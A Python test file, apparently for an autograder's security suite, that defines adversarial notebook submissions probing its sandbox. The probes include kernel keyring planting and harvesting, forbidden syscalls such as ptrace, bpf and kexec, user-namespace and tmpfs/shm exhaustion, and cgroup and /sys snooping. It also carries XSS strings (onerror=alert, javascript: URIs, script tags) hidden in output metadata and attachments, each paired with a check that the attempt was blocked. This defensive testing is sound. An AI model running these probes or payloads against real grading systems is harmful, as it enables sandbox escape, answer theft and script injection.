        many_cells(DENSE_HTML, 1),
        deserved="full",
        kinds=("ok",),
        check=html_shown_as_note,
    ),
]


# Honest students graded in the same batch: they must get exactly these points, with status "ok". Submissions are
# graded in the order of their ids: "zz_full" comes last, after every attack, the neighbours beside the attacks that
# try to starve the machine.
HONEST = {
    "full": "full",
    "blank": "none",
    "flag_tables_as_hook_tables": "flag_tables_as_hook_tables",
    "copy_with_copy_copy": "copy_with_copy_copy",
    "copy_via_getstate": "copy_via_getstate",
    "v11a_zz_honest_neighbour": "full",  # graded beside the memory bomb
    "v13c_honest_neighbour": "full",  # graded while the fork bomb runs
    "zz_full": "full",
}


# Honest students graded beside the quarantined vectors, one before them and one after.
WITNESSES = {"a_witness_full": "full", "zz_witness_full": "full"}


def write_honest(course: Course, folder: Path, spec: str) -> None:
    answers = course.solution if spec == "full" else course.scripted.get(spec, {}) if spec != "none" else {}
    nb = submission(course.release, answers)
    decorate = DECORATED.get(folder.parent.name)
    if decorate is not None:
        decorate(nb)
    nbformat.write(nb, folder / NOTEBOOK)


# --------------------------------------------------------------------------------------------------------------
# 24: the sandbox, round three: kernel objects that outlive a child, namespaces of a child's own, what a child sees
# of the others; script through output metadata and attachments; honest screenshots; student ids too long for a file
# --------------------------------------------------------------------------------------------------------------

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
GIF = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
SYSCALLS = """
import ctypes as _ctypes
import json as _json
import os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
def _call(number, *args):
    result = _libc.syscall(number, *args)
    return "ok" if result >= 0 else _os.strerror(_ctypes.get_errno())
"""
# add_key into the user, user-session and session keyrings, and a named session keyring joined: keys belong to no
# namespace and outlive the process.
KEYRING_PLANT = """
_report = {"planted": [], "refused": []}
_payload = _ANSWERS.encode()
for _ring in (-4, -5, -3):
    _said = _call(248, b"user", b"integrity-answers", _payload, len(_payload), _ring)
    (_report["planted"] if _said == "ok" else _report["refused"]).append([_ring, _said])
_said = _call(250, 1, b"integrity-ring")
(_report["planted"] if _said == "ok" else _report["refused"]).append(["join", _said])
print("INTEGRITY-KEYRING " + _json.dumps(_report))
"""
KEYRING_HARVEST = (
    """
_report = {"found": [], "listed": 0}
"""
    + USE
    + """_ids = []
try:
    with open("/proc/keys") as _keys:
        _ids = [int(_line.split()[0], 16) for _line in _keys if _line.strip()]
except OSError:
    pass
_report["listed"] = len(_ids)
for _ring in (-4, -5, -3):
    _found = _libc.syscall(250, 10, _ring, b"user", b"integrity-answers", 0)  # KEYCTL_SEARCH
    if _found >= 0:
        _ids.append(_found)
_found = _libc.syscall(249, b"user", b"integrity-answers", None, 0)  # request_key
if _found >= 0:
    _ids.append(_found)
for _key in _ids:
    _buffer = _ctypes.create_string_buffer(1 << 16)
    _size = _libc.syscall(250, 11, _key, _buffer, 1 << 16)  # KEYCTL_READ
    if _size > 0:
        _use(f"key {_key}", _buffer.raw[:_size].decode(errors="replace"))
print("INTEGRITY-KEYS " + _json.dumps(_report))
"""
)
# Calls that reach the kernel's shared objects or another process; each made with arguments the kernel would
# refuse or that change nothing, so that only the filter's EPERM (ENOSYS for clone3) says it was stopped first.
FORBIDDEN_CALLS = """
_MADE = {
    "bpf": (321, 0, None, 0),
    "perf_event_open": (298, None, 0, -1, -1, 0),
    "userfaultfd": (323, 0),
    "io_uring_setup": (425, 1, None),
    "keyctl": (250, 0, -3, 0),
    "add_key": (248, b"user", b"x", b"y", 1, -2),
    "request_key": (249, b"user", b"x", None, 0),
    "unshare": (272, 0x00020000),
    "setns": (308, -1, 0),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, None),
    "umount2": (166, b"/proc", 2),
    "pivot_root": (155, b"/", b"/"),
    "chroot": (161, b"/"),
    "ptrace": (101, 16, 1, 0, 0),
    "process_vm_readv": (310, 1, None, 0, None, 0, 0),
    "personality": (135, 0x0040000),
    "init_module": (175, None, 0, b""),
    "finit_module": (313, -1, b"", 0),
    "delete_module": (176, b"integrity", 0),
    "kexec_load": (246, 0, 0, None, 0),
    "open_by_handle_at": (304, -1, None, 0),
    "fsopen": (430, b"tmpfs", 0),
    "clone3": (435, None, 0),
    "clone_newuser": (56, 0x10000000 | 17, 0, 0, 0, 0),
    "socket_packet": (41, 17, 3, 0),
}
_report = {name: _call(*arguments) for name, arguments in _MADE.items()}
print("INTEGRITY-CALLS " + _json.dumps(_report))
"""
# A user namespace of its own, then a fresh tmpfs (300 MiB in 12,000 files) and 200 MiB of SysV shared memory.
USERNS_LIMITS = """
import ctypes as _ctypes
import json as _json
import os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_report = {"unshare": "ok", "bytes": 0, "files": 0, "shm": 0}
if _libc.unshare(0x10000000 | 0x00020000 | 0x08000000) != 0:  # NEWUSER | NEWNS | NEWIPC
    _report["unshare"] = _os.strerror(_ctypes.get_errno())
if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    _where = "/tmp"
else:
    _report["mount"] = _os.strerror(_ctypes.get_errno())
    _where = "."
try:
    for _n in range(300):
        with open(f"{_where}/integrity-fill-{_n}", "wb") as _f:
            _f.write(b"x" * (1 << 20))
        _report["bytes"] += 1 << 20
except OSError as _e:
    _report["stopped"] = _e.strerror
try:
    for _n in range(12_000):
        open(f"{_where}/integrity-file-{_n}", "w").close()
        _report["files"] += 1
except OSError:
    pass
for _n in range(4):
    _id = _libc.shmget(0, _ctypes.c_size_t(50 << 20), 0o1000 | 0o600)
    if _id < 0:
        break
    _address = _libc.shmat(_id, None, 0)
    if _address in (None, _ctypes.c_void_p(-1).value):
        break
    _ctypes.memset(_address, 1, 50 << 20)
    _libc.shmdt(_ctypes.c_void_p(_address))
    _report["shm"] += 50 << 20
print("INTEGRITY-USERNS " + _json.dumps(_report))
"""
# The same through programs on the machine: util-linux's unshare and bubblewrap.
USERNS_PROGRAMS = """
import json as _json
import subprocess as _subprocess
_report = {}
for _name, _command in {
    "unshare": ["unshare", "--user", "--map-root-user", "--mount", "true"],
    "bwrap": ["bwrap", "--unshare-user", "--ro-bind", "/", "/", "true"],
    "python": ["python", "-c", "import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000) & 0xFF)"],
}.items():
    try:
        _report[_name] = _subprocess.run(_command, capture_output=True, timeout=20).returncode
    except (OSError, _subprocess.SubprocessError) as _e:
        _report[_name] = type(_e).__name__
print("INTEGRITY-PROGRAMS " + _json.dumps(_report))
"""
# What a child can see of the host's control groups (every other child's memory use) and of /sys.
CGROUP_PEEK = """
import glob as _glob
import json as _json
import os as _os
_report = {"seen": [], "mounts": []}
for _pattern in ("/sys/fs/cgroup/*", "/sys/fs/cgroup/*/*", "/sys/fs/cgroup/memory/*/*/memory.usage_in_bytes",
                 "/opt/cgroup/*", "/sys/kernel/*", "/sys/class/*", "/sys/block/*", "/sys/module/*"):
    _report["seen"] += _glob.glob(_pattern)[:5]
with open("/proc/self/mountinfo") as _mounts:
    _report["mounts"] = [_line.split()[4] for _line in _mounts if "cgroup" in _line]
print("INTEGRITY-CGROUP " + _json.dumps(_report))
"""
SYSFS_WALK = """
import json as _json
import os as _os
_report = {"walked": 0, "outside": []}
_ALLOWED = ("/sys/devices/system/cpu", "/sys/devices/system/node")
for _root, _dirs, _files in _os.walk("/sys"):
    for _name in _dirs + _files:
        _path = _os.path.join(_root, _name)
        _report["walked"] += 1
        if not _path.startswith(_ALLOWED) and _path not in ("/sys/devices", "/sys/devices/system"):
            _report["outside"].append(_path)
    if _report["walked"] > 20_000:
        break
_report["outside"] = _report["outside"][:20]
print("INTEGRITY-SYSFS " + _json.dumps(_report))
"""
# Images whose output metadata carries attributes or a script source, every way the renderers read it.
METADATA_SCRIPT = f"""
from IPython.display import publish_display_data as _publish
_publish({{"image/png": "{PNG}"}}, metadata={{"width": "1 onerror=alert(1)", "height": "1 onerror=alert(2)"}})
_publish({{"image/jpeg": "{PNG}"}}, metadata={{"image/jpeg": {{"width": "2 onload=alert(3)", "height": [1]}}}})
_publish(
    {{"image/png": "{PNG}", "text/plain": "x"}},
    metadata={{"filenames": {{"image/png": "javascript:alert(4)"}}, "unconfined": "x onload=alert(5)"}},
)
_publish({{"image/png": "{PNG}"}}, metadata={{"image/png": {{"needs_background": "light\\" onload=\\"alert(6)"}}}})
_publish({{"text/html": "<b>fine</b>"}}, metadata={{"text/html": {{"isolated": "<script>alert(7)</script>"}}}})


class _Picture:
    def _repr_png_(self):
        import base64
        return base64.b64decode("{PNG}"), {{"width": "3 onerror=alert(8)", "height": 5}}


_Picture()
"""
# Attachments of every kind a student can type into a notebook's JSON, referred to from markdown.
HOSTILE_ATTACHMENTS = {
    "shot.png": {"image/png": 'x" onerror="alert(1)'},
    "page.html": {"text/html": "<script>alert(2)</script>"},
    "vector.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMyk+PC9zdmc+"},
    'quote".png': {"image/png": PNG},
    "list.png": {"image/png": ["iVBOR", 'w0KG" onerror="alert(5)']},
}
HOSTILE_MARKDOWN = (
    "![a](attachment:shot.png) ![b](attachment:page.html) ![c](attachment:vector.svg)\n"
    '[link](attachment:page.html) <img src="attachment:list.png" onerror="alert(4)"> ![d](attachment:none.png)\n'
    '![q](<attachment:quote".png>)\n'
)


def with_metadata_script(ctx: Context) -> None:
    with_code(ctx, METADATA_SCRIPT, answers=ctx.course.solution)


def hostile_attachments(ctx: Context) -> None:
    nb = notebook(ctx, ctx.course.solution)
    shot = nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN)
    shot["attachments"] = HOSTILE_ATTACHMENTS
    nb.cells.append(shot)
    save(ctx, nb)


def keyring_plant(ctx: Context) -> None:
    answers = "\n\n".join(ctx.course.solution.values())
    with_code(ctx, SYSCALLS + f"_ANSWERS = {answers!r}\n" + KEYRING_PLANT, answers=ctx.course.solution)


def shown_inert(images: int) -> Callable[[Evidence, Course], list[str]]:
    """A check: the autograded notebook shows at least `images` images (the hostile parts ran, and were shown), and
    rendered it carries no script (rendered_inert)."""

    def check(evidence: Evidence, course: Course) -> list[str]:
        cells = evidence.notebook.cells if evidence.notebook is not None else []
        shown_parts = [cell.source if cell.cell_type == "markdown" else cell.get("outputs", []) for cell in cells]
        shown = json.dumps(shown_parts).count("iVBORw0KGgo")  # a PNG, in base64
        problems = [] if shown >= images else [f"{shown} image(s) shown, not {images}: the cell did not run"]
        return problems + rendered_inert(evidence, course)

    return check


def rendered_inert(evidence: Evidence, course: Course) -> list[str]:
    """The autograded notebook rendered as the Formgrader and the feedback render it (nbconvert's classic and lab
    templates): no element carries an event handler or a script source, and no output keeps other metadata than
    whole-number sizes of images."""
    from bs4 import BeautifulSoup
    from nbconvert import HTMLExporter

    if evidence.notebook is None:
        return ["no autograded notebook"]
    problems = []
    for template in ("classic", "lab"):
        page, _ = HTMLExporter(template_name=template).from_notebook_node(copy.deepcopy(evidence.notebook))
        for element in BeautifulSoup(page, "html.parser").find_all(True):
            for name, value in element.attrs.items():
                shown = " ".join(value) if isinstance(value, list) else str(value)
                if name.lower().startswith("on") or shown.strip().lower().startswith(("javascript:", "vbscript:")):
                    problems.append(f"{template}: <{element.name} {name}={shown[:40]!r}>")
                if (
                    name == "src"
                    and shown.startswith("data:")
                    and not shown.startswith(("data:image/png;", "data:image/jpeg;", "data:image/gif;"))
                ):
                    problems.append(f"{template}: <{element.name} src={shown[:40]!r}>")
            if element.name == "script" and "alert(" in element.get_text():
                problems.append(f"{template}: a script of the student's")
    for cell in evidence.notebook.cells:
        for output in cell.get("outputs", []):
            for kind, value in output.get("metadata", {}).items():
                sizes = value if isinstance(value, dict) else {kind: value}
                if not kind.startswith("image/") or any(type(v) is not int for v in sizes.values()):
                    problems.append(f"output metadata kept: {kind}={value!r:.60}")
    return sorted(set(problems))[:10]


def keyring_refused(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("KEYRING")
    if report is None:
        return ["the probe printed no report"]
    return [f"planted a key in {where} ({said})" for where, said in report["planted"]]


def no_key_found(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("KEYS")
    if report is None:
        return ["the probe printed no report"]
    problems = [f"ran answers found in {where}" for where in report["found"]]
    return problems + ([f"/proc/keys listed {report['listed']} keys"] if report["listed"] else [])


def calls_refused(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("CALLS")
    if report is None:
        return ["the probe printed no report"]
    refused = {name: os.strerror(errno.ENOSYS if name == "clone3" else errno.EPERM) for name in report}
    return [f"{name} reached the kernel ({said})" for name, said in report.items() if said != refused[name]]


def userns_bounded(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("USERNS")
    if report is None:
        return ["the probe printed no report"]
    problems = [] if report["unshare"] != "ok" else ["made a user namespace of its own"]
    problems += [f"wrote {report['bytes'] >> 20} MiB"] if report["bytes"] > 256 << 20 else []
    problems += [f"made {report['files']} files"] if report["files"] > 10_000 else []
    return problems + ([f"held {report['shm'] >> 20} MiB of SysV shm"] if report["shm"] > 64 << 20 else [])


def programs_refused(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("PROGRAMS")
    if report is None:
        return ["the probe printed no report"]
    return [f"{name} made a user namespace" for name, code in report.items() if code == 0]


def no_cgroup_seen(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("CGROUP")
    if report is None:
        return ["the probe printed no report"]
    return [f"saw {path}" for path in report["seen"][:5]] + [f"cgroup mount {m}" for m in report["mounts"][:3]]


def sysfs_confined(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("SYSFS")
    if report is None:
        return ["the probe printed no report"]
    problems = [] if report["walked"] else ["walked nothing of /sys (the processors should be there)"]
    return problems + [f"saw {path}" for path in report["outside"][:5]]


def long_id(length: int) -> str:
    """A student id of `length` characters (made of the letters an id may have)."""
    return ("v24-long-" + "x" * length)[:length]


def contained(key: str, name: str, what: str, code: str, check: Callable[[Evidence, Course], list[str]]) -> Vector:
    """A blank answer whose probe `code` tries to reach past its child; `check` says whether it got anywhere."""
    return Vector(24, key, name, what, lambda ctx: with_code(ctx, code), kinds=("ok",), check=check)


def long_id_vector(key: str, length: int, what: str) -> Vector:
    """A full answer from a student id of `length` characters: intake refuses the id, clearly, and nothing else."""
    build = lambda ctx: save(ctx, notebook(ctx, ctx.course.solution))  # noqa: E731
    reason = f"{length} characters long"
    return Vector(24, key, f"id_{length}", what, build, kinds=("error",), reason=reason, student_id=long_id(length))


VECTORS += [
    Vector(
        24,
        "24a",
        "keyring_plant",
        "a full answer that stores all its answers in the user, session and a named kernel keyring",
        keyring_plant,
        deserved="full",
        kinds=("ok",),
        check=keyring_refused,
    ),
    contained(
        "24b",
        "keyring_harvest",
        "a blank answer that runs whatever key /proc/keys, keyctl search or request_key finds",
        SYSCALLS + KEYRING_HARVEST,
        no_key_found,
    ),
    contained(
        "24c",
        "forbidden_calls",
        "bpf, perf_event_open, userfaultfd, io_uring, keyrings, namespaces, mount, ptrace, modules, kexec, clone3...",
        SYSCALLS + FORBIDDEN_CALLS,
        calls_refused,
    ),
    contained(
        "24d",
        "userns_limits",
        "a user namespace of its own, then a fresh tmpfs with 300 MiB in 12,000 files and 200 MiB of SysV shm",
        USERNS_LIMITS,
        userns_bounded,
    ),
    contained(
        "24e",
        "userns_programs",
        "util-linux's unshare, bubblewrap and a Python child asked for a user namespace",
        USERNS_PROGRAMS,
        programs_refused,
    ),
    contained(
        "24f",
        "cgroup_peek",
        "looks for the host's control groups (every child's memory use), kernel and module settings",
        CGROUP_PEEK,
        no_cgroup_seen,
    ),
    contained(
        "24g",
        "sysfs_walk",
        "walks /sys for anything beyond the processors' and memory nodes' topology",
        SYSFS_WALK,
        sysfs_confined,
    ),
    Vector(
        24,
        "24h",
        "metadata_script",
        "a full answer whose image outputs carry attributes and a javascript: source in their metadata",
        with_metadata_script,
        deserved="full",
        kinds=("ok",),
        check=shown_inert(5),
    ),
    Vector(
        24,
        "24i",
        "hostile_attachments",
        "a full answer whose markdown shows attachments of HTML, SVG, broken base64 and a quote in a name",
        hostile_attachments,
        deserved="full",
        kinds=("ok",),
        check=shown_inert(1),
    ),
    long_id_vector("24j", 246, "the review's id: the ledger's temporary name passed 255 bytes"),
    long_id_vector("24k", 129, "one character over the limit"),
    long_id_vector("24l", 255, "as long as a file name can be"),
]


def pasted_screenshot(nb: NotebookNode) -> None:
    """A screenshot pasted into a markdown cell, as JupyterLab stores it."""
    shot = nbformat.v4.new_markdown_cell("My diagram:\n\n![image.png](attachment:image.png)\n")
    shot["attachments"] = {"image.png": {"image/png": PNG}}
    nb.cells.append(shot)


def pasted_images_of_every_kind(nb: NotebookNode) -> None:
    """A GIF, an SVG (shown by name), a reference to nothing, a name with spaces, and an image split in lines."""
    shot = nbformat.v4.new_markdown_cell(
        "![gif](attachment:anim.gif) ![svg](attachment:drawing.svg) ![gone](attachment:gone.png)\n\n"
        "![spaced](<attachment:my shot.png>) ![lines](attachment:lines.png) [as a link](attachment:anim.gif)\n"
    )
    shot["attachments"] = {
        "anim.gif": {"image/gif": GIF},
        "drawing.svg": {"image/svg+xml": "PHN2Zy8+"},
        "my shot.png": {"image/png": PNG},
        "lines.png": {"image/png": PNG[:40] + "\n" + PNG[40:]},
    }
    nb.cells.append(shot)


def unusual_outputs(nb: NotebookNode) -> None:
    """Outputs a student's plots and displays really have: sizes of every kind, isolated HTML, LaTeX, JSON."""
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "from IPython.display import Image, Markdown, Latex, JSON, HTML, display\n"
            "import base64\n"
            f"_png = base64.b64decode('{PNG}')\n"
            "display(Image(_png, width=40, height=30), Image(_png, width=2.5), Image(_png, unconfined=True))\n"
            "display(Markdown('**bold** and $x^2$'), Latex('$\\\\alpha$'), JSON({'a': [1, 2]}))\n"
            "display(HTML('<table><tr><td>1</td></tr></table>'), metadata={'isolated': True})\n"
            "Image(_png, metadata={'needs_background': 'light'})\n"
        )
    )


# Honest students whose notebooks carry more than answers: each decorated, after its answers, by its function.
DECORATED = {
    "pasted_screenshot": pasted_screenshot,
    "pasted_images_of_every_kind": pasted_images_of_every_kind,
    "unusual_outputs": unusual_outputs,
}
LONG_BUT_VALID = "long-but-valid-" + "n" * 113  # exactly the longest id intake takes (grader.intake.ID_LIMIT)
HONEST.update(
    {
        "pasted_screenshot": "full",
        "pasted_images_of_every_kind": "full",
        "unusual_outputs": "full",
        LONG_BUT_VALID: "full",
    }
)
